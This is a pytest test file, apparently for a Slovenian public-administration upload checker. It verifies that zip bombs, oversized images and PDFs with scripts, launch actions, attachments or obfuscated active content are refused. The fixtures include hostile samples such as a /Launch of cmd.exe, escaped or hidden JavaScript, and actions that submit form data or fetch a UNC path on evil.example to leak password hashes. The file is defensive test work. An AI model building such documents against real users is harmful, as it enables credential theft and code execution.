    position = data.find(b"PK\x01\x02")
    while position != -1:
        name_length = struct.unpack_from("<H", data, position + 28)[0]
        if data[position + 46 : position + 46 + name_length] == member.encode():
            struct.pack_into("<I", data, position + 24, size)
            return bytes(data)
        position = data.find(b"PK\x01\x02", position + 4)
    raise AssertionError(member)


@pytest.fixture
def opened(monkeypatch):
    """The names of the members a check opens (reads), in order."""
    names = []
    open_member = zipfile.ZipFile.open

    def spy(archive, member, mode="r", *args, **kwargs):
        if mode == "r":  # not the tests' own writing
            names.append(getattr(member, "filename", member))
        return open_member(archive, member, mode, *args, **kwargs)

    monkeypatch.setattr(zipfile.ZipFile, "open", spy)
    return names


def test_an_office_file_declaring_gigabytes_is_refused_before_any_member_is_read(tmp_path, opened):
    """A few kilobytes that say they unpack to 4 GiB (the issue's file said 18 GiB and was
    refused after 12 s of unpacking): refused from the central directory alone."""
    data = declared_size(word(), "word/document.xml", 0xFFFF_FFF0)
    assert len(data) < 2000
    refused = refusal(tmp_path, data, "pooblastilo.docx")
    assert str(refused.message) == TOO_COMPLEX
    assert refused.detail.startswith("unpacks to ")
    assert int(refused.detail.split()[2]) > 0xFFFF_FFF0
    assert opened == []


def test_a_densely_packed_member_is_refused_before_it_is_read(tmp_path, opened):
    """64 MiB of zeros deflate to 64 KiB: within the size limit, but packed 1000:1."""
    data = word(extra=[("word/media/zeros.bin", bytes(64 * 1024 * 1024))])
    refused = refusal(tmp_path, data, "pooblastilo.docx")
    assert str(refused.message) == TOO_COMPLEX
    assert refused.detail.startswith("word/media/zeros.bin packed ")
    assert opened == []


def test_too_many_members_are_refused_before_any_is_read(tmp_path, opened):
    data = word(extra=[(f"word/media/{n}.png", "") for n in range(5_001)])
    refused = refusal(tmp_path, data, "pooblastilo.docx")
    assert refused.detail == "5005 members"
    assert opened == []


def test_the_unpacked_size_limit_is_a_setting(tmp_path, settings, opened):
    incompressible = image_bytes("PNG", (600, 600), noise=True)
    data = word(extra=[("word/media/image1.png", incompressible)])
    assert verify(tmp_path, data, "pooblastilo.docx")
    settings.EXCHANGE_MAX_UNPACKED_BYTES = len(incompressible)
    opened.clear()
    refused = refusal(tmp_path, data, "pooblastilo.docx")
    assert refused.detail.startswith("unpacks to ")
    assert opened == []


def test_a_bomb_inside_an_embedded_document_is_refused_unread(tmp_path, opened):
    inner = declared_size(workbook(), "xl/workbook.xml", 0xFFFF_FFF0)
    data = word(extra=[("word/embeddings/Microsoft_Excel_Worksheet.xlsx", inner)])
    refused = refusal(tmp_path, data, "pooblastilo.docx")
    assert str(refused.message) == TOO_COMPLEX
    assert "xl/workbook.xml" not in opened


def test_normal_documents_with_images_links_and_charts_are_accepted(tmp_path):
    image = image_bytes("PNG")
    chart_data = workbook()
    docx = word(
        relationships=[
            (f"{OFFICE_RELATIONSHIPS}image", "media/image1.png"),
            (f"{OFFICE_RELATIONSHIPS}hyperlink", "https://e-uprava.gov.si/"),
            (f"{OFFICE_RELATIONSHIPS}package", "embeddings/Microsoft_Excel_Worksheet.xlsx"),
        ],
        extra=[
            ("word/media/image1.png", image),
            ("word/embeddings/Microsoft_Excel_Worksheet.xlsx", chart_data),
        ],
    )
    assert verify(tmp_path, docx, "pooblastilo.docx")
    # LibreOffice writes an empty office:scripts; links to the web are fine.
    odt = odf(body='<text:p><text:a xlink:href="https://e-uprava.gov.si/">vir</text:a></text:p>')
    assert verify(tmp_path, odt, "prošnja.odt")


# --- active content in PDF ---------------------------------------------------------------------

SCRIPTS = (
    "PDF files with scripts or automatic actions are not accepted; please print the document to "
    "a new PDF and send that."
)
ATTACHMENTS = "PDF files with attached files are not accepted; please send each file separately."


def pdf_with(change) -> bytes:
    """A one-page PDF made by pypdf, after ``change(writer)``."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    change(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def action(kind: str, **entries) -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/S"): NameObject(kind),
            **{NameObject(f"/{key}"): value for key, value in entries.items()},
        }
    )


def open_action(value):
    return lambda writer: writer._root_object.__setitem__(NameObject("/OpenAction"), value)


def raw_pdf(*objects: bytes, trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A PDF written byte by byte: ``objects`` numbered from 1, and a cross-reference table."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<</Size %d %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer,
        start,
    )
    return bytes(out)


PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"


def object_stream_pdf(hidden: bytes) -> bytes:
    """``hidden`` as object 4, compressed inside an object stream (object 5), the open action of
    the catalogue; found only through a cross-reference stream (object 6)."""
    packed = b"4 0 " + hidden
    stream = zlib.compress(packed)
    objects = [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        PAGES,
        PAGE,
        None,  # object 4 lives in the object stream
        b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream"
        % (len(stream), stream),
    ]
    out = bytearray(b"%PDF-1.7\n")
    rows = [(0, 0, 0xFFFF)]
    for number, body in enumerate(objects, start=1):
        if body is None:
            rows.append((2, 5, 0))
            continue
        rows.append((1, len(out), 0))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    rows.append((1, start, 0))
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    out += (
        b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Length %d>>\nstream\n%s\nendstream\n"
        b"endobj\nstartxref\n%d\n%%%%EOF\n" % (len(table), table, start)
    )
    return bytes(out)


JS = TextStringObject("app.alert('x')")


@pytest.mark.parametrize(
    ("make", "message", "detail"),
    [
        # The sample of the issue: JavaScript run on opening, an executable attached.
        (lambda: pdf_with(open_action(action("/JavaScript", JS=JS))), SCRIPTS, "key /JS"),
        (
            lambda: pdf_with(
                lambda writer: writer._root_object.__setitem__(
                    NameObject("/Names"),
                    DictionaryObject(
                        {
                            NameObject("/JavaScript"): DictionaryObject(
                                {
                                    NameObject("/Names"): ArrayObject(
                                        [TextStringObject("x"), action("/JavaScript", JS=JS)]
                                    )
                                }
                            )
                        }
                    ),
                )
            ),
            SCRIPTS,
            "key /JavaScript",
        ),
        (
            lambda: pdf_with(lambda writer: writer.add_attachment("racun.exe", EXE)),
            ATTACHMENTS,
            "object /EmbeddedFile",
        ),
        (
            lambda: pdf_with(open_action(action("/Launch", F=TextStringObject("cmd.exe")))),
            SCRIPTS,
            "action /Launch",
        ),
        # Additional actions of a page (run when it opens).
        (
            lambda: pdf_with(
                lambda writer: writer.pages[0].__setitem__(
                    NameObject("/AA"),
                    DictionaryObject({NameObject("/O"): action("/JavaScript", JS=JS)}),
                )
            ),
            SCRIPTS,
            "key /JS",
        ),
        (
            lambda: pdf_with(
                lambda writer: writer._root_object.__setitem__(
                    NameObject("/AcroForm"),
                    DictionaryObject(
                        {
                            NameObject("/Fields"): ArrayObject(),
                            NameObject("/XFA"): TextStringObject("<xdp/>"),
                        }
                    ),
                )
            ),
            SCRIPTS,
            "key /XFA",
        ),
        (
            lambda: pdf_with(
                lambda writer: writer.pages[0].__setitem__(
                    NameObject("/Annots"),
                    ArrayObject(
                        [
                            DictionaryObject(
                                {
                                    NameObject("/Type"): NameObject("/Annot"),
                                    NameObject("/Subtype"): NameObject("/RichMedia"),
                                }
                            )
                        ]
                    ),
                )
            ),
            SCRIPTS,
            "annotation /RichMedia",
        ),
        # Names with escapes: /J#53 is /JS, /Java#53cript is /JavaScript.
        (
            lambda: raw_pdf(
                b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Java#53cript/J#53(app.alert(1))>>>>",
                PAGES,
                PAGE,
            ),
            SCRIPTS,
            "key /JS",
        ),
        # An action no page or catalogue refers to directly: found in the object list.
        (
            lambda: raw_pdf(
                b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
                PAGES,
                PAGE,
                b"<</S/Launch/Win<</F(cmd.exe)>>>>",
            ),
            SCRIPTS,
            "action /Launch",
        ),
        # JavaScript inside a compressed object stream, where no search of the bytes sees it.
        (
            lambda: object_stream_pdf(b"<</S/JavaScript/JS(app.alert(1))>>"),
            SCRIPTS,
            "key /JS",
        ),
        # Sending the form's fields to a server when the document opens.
        (
            lambda: pdf_with(
                open_action(action("/SubmitForm", F=TextStringObject("https://evil.example/")))
            ),
            SCRIPTS,
            "action /SubmitForm",
        ),
        # Opening a file on a network share: Windows sends the official's password hash there.
        (
            lambda: pdf_with(
                open_action(action("/GoToR", F=TextStringObject("\\\\evil.example\\x.pdf")))
            ),
            SCRIPTS,
            "action /GoToR",
        ),
        # The kind of action by reference: /S 4 0 R, and object 4 is the name /Launch.
        (
            lambda: raw_pdf(
                b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S 4 0 R/F(cmd.exe)>>>>",
                PAGES,
                PAGE,
                b"/Launch",
            ),
            SCRIPTS,
            "action /Launch",
        ),
        # Brackets inside a string, a hexadecimal string and a comment before the script: the
        # dictionary is read to its real end, not to the first ">>" in the bytes.
        (
            lambda: raw_pdf(
                b"<</Type/Catalog/Pages 2 0 R/Title(a >> \\) ] \\( (b) >>)/Id<3e3e5d>%>>]\n"
                b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>",
                PAGES,
                PAGE,
            ),
            SCRIPTS,
            "key /JS",
        ),
        # A stream's dictionary is looked at, though its data is not read.
        (
            lambda: raw_pdf(
                b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles 4 0 R>>>>",
                PAGES,
                PAGE,
                b"<</Type/EmbeddedFile/Length 2>>\nstream\nMZ\nendstream",
            ),
            ATTACHMENTS,
            "key /EmbeddedFiles",
        ),
    ],
    ids=[
        "open action js",
        "document js",
        "attached exe",
        "launch",
        "page additional action",
        "xfa",
        "rich media",
        "escaped names",
        "indirect launch",
        "object stream",
        "submit form",
        "remote file",
        "action kind by reference",
        "brackets in strings",
        "stream dictionary",
    ],
)
def test_pdf_active_content_by_any_route_is_refused(tmp_path, make, message, detail):
    data = make()
    refused = refusal(tmp_path, data, "vloga.pdf")
    assert str(refused.message) == message
    assert refused.detail == detail


def test_pdfs_with_links_and_an_opening_view_are_accepted(tmp_path):
    """Links to the web and 'open at page 1, fit' are actions too, and harmless."""

    def links(writer):
        writer.add_uri(0, "https://e-uprava.gov.si/", [10, 10, 100, 30])
        writer._root_object[NameObject("/OpenAction")] = ArrayObject(
            [writer.pages[0].indirect_reference, NameObject("/Fit")]
        )

    assert verify(tmp_path, pdf_with(links), "vloga.pdf") == "application/pdf"
    # The object-stream PDF itself is accepted when what it hides is harmless.
    harmless = object_stream_pdf(b"<</S/GoTo/D[3 0 R/Fit]>>")
    assert verify(tmp_path, harmless, "vloga.pdf") == "application/pdf"


def big_stream_pdf(data: bytes) -> bytes:
    """One page whose content stream is ``data``, as a scanner or a large drawing makes it."""
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        PAGES,
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>",
        b"<</Length %d>>\nstream\n%s\nendstream" % (len(data), data),
    )


class CountingFile(io.FileIO):
    """A file that counts the bytes read from it."""

    read_bytes = 0

    def readinto(self, buffer):
        count = super().readinto(buffer)
        CountingFile.read_bytes += count or 0
        return count

    def readall(self):
        data = super().readall()
        CountingFile.read_bytes += len(data)
        return data


def test_a_large_pdf_is_checked_without_reading_its_streams(tmp_path, monkeypatch):
    """The bug: scanning every byte of the file for names, so that a big scan takes seconds
    (and, holding "/JS" or "#" by chance, has every object read whole). Only the dictionaries
    are read, even when the stream's bytes spell the names looked for."""
    noise = (b"/JS /Launch /J#53 #41 <</S/JavaScript/JS(x)>> (" + bytes(range(256))) * 4096
    data = big_stream_pdf(noise * 8)  # 8 MiB of content that names everything looked for
    path = tmp_path / "sken.pdf"
    path.write_bytes(data)
    CountingFile.read_bytes = 0
    monkeypatch.setattr(
        pdf_checks, "open", lambda name, mode: io.BufferedReader(CountingFile(name)), raising=False
    )
    pdf_checks.check_pdf(str(path))
    assert len(data) > 8 * 1024 * 1024
    assert CountingFile.read_bytes < 1024 * 1024


def test_a_dictionary_longer_than_the_bound_is_still_read_whole(tmp_path, monkeypatch):
    """Past MAX_HEAD the check falls back to pypdf's own reading, which still finds the script
    (the bug: taking an unfinished dictionary for a harmless one)."""
    monkeypatch.setattr(pdf_checks, "HEAD_CHUNK", 1024)
    monkeypatch.setattr(pdf_checks, "MAX_HEAD", 4096)
    padding = b"(" + b"a" * 10_000 + b")"
    data = raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R/Pad %s/OpenAction<</S/JavaScript/JS(x)>>>>" % padding,
        PAGES,
        PAGE,
    )
    refused = refusal(tmp_path, data, "vloga.pdf")
    assert (str(refused.message), refused.detail) == (SCRIPTS, "key /JS")


def test_a_pdf_stream_that_unpacks_past_the_limit_is_refused(tmp_path, settings):
    settings.EXCHANGE_MAX_UNPACKED_BYTES = 1024 * 1024
    padding = b"<</S/GoTo/D[3 0 R/Fit]/Pad(" + b"a" * 2 * 1024 * 1024 + b")>>"
    data = object_stream_pdf(padding)
    assert len(data) < 20_000
    refused = refusal(tmp_path, data, "vloga.pdf")
    assert str(refused.message) == TOO_COMPLEX
    assert refused.detail.startswith("pypdf limit: Limit reached while decompressing")


def test_a_jpeg_declaring_more_pixels_than_allowed_is_refused_before_decoding(tmp_path):
    """The pixel limit holds for JPEG too: its size is read from the frame header."""
    data = bytearray(image_bytes("JPEG", (16, 16)))
    frame = data.index(b"\xff\xc0")  # baseline frame header: length, precision, height, width
    struct.pack_into(">HH", data, frame + 5, 8_000, 8_000)  # 64 MP, under Pillow's own limit
    refused = refusal(tmp_path, bytes(data), "osebna.jpg")
    assert refused.detail == "too many pixels"


def test_the_refusals_of_active_content_read_in_slovenian(tmp_path):
    """Slovenian is the default language: the new refusals are translated."""
    with translation.override("sl"):
        macros = refusal(tmp_path, odf(scripts=RUN_ON_OPEN), "prošnja.odt")
        script = refusal(tmp_path, pdf_with(open_action(action("/JavaScript", JS=JS))), "a.pdf")
        bomb = refusal(tmp_path, declared_size(word(), "word/document.xml", 2**32 - 16), "a.docx")
        assert str(macros.message) == "Dokumenti z makri niso dovoljeni."
        assert str(script.message).startswith("Datoteke PDF s skriptami ali samodejnimi dejanji")
        assert str(bomb.message).startswith("Datoteka je prevelika ali preveč zapletena")
